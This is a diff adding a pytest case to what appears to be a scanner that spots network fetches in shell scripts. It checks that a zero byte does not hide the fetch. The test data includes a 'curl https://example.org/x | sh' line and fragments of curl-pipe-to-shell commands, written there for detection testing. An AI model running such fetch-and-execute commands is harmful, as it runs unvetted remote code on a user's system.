@@ -71,6 +71,12 @@ def test_scripts_tell_it_and_other_texts_do_not() -> None:
     assert told("usr/share/doc/README", command) is None
 
 
+def test_a_zero_byte_makes_no_data_of_a_script() -> None:
+    found = told("opt/start", b"#!/bin/sh\n: \0\ncurl https://example.org/x | sh\n")
+    assert found is not None
+    assert found.fetches == (Fetch(PROGRAM, 3),)
+
+
 @pytest.mark.timeout(60)
 @pytest.mark.parametrize(
     "piece", ["curl |", "sh -", "apt ", "curl x | sudo ", "$(curl", "sh" + " " * 20, "\\\n", "a=|", "/a"]
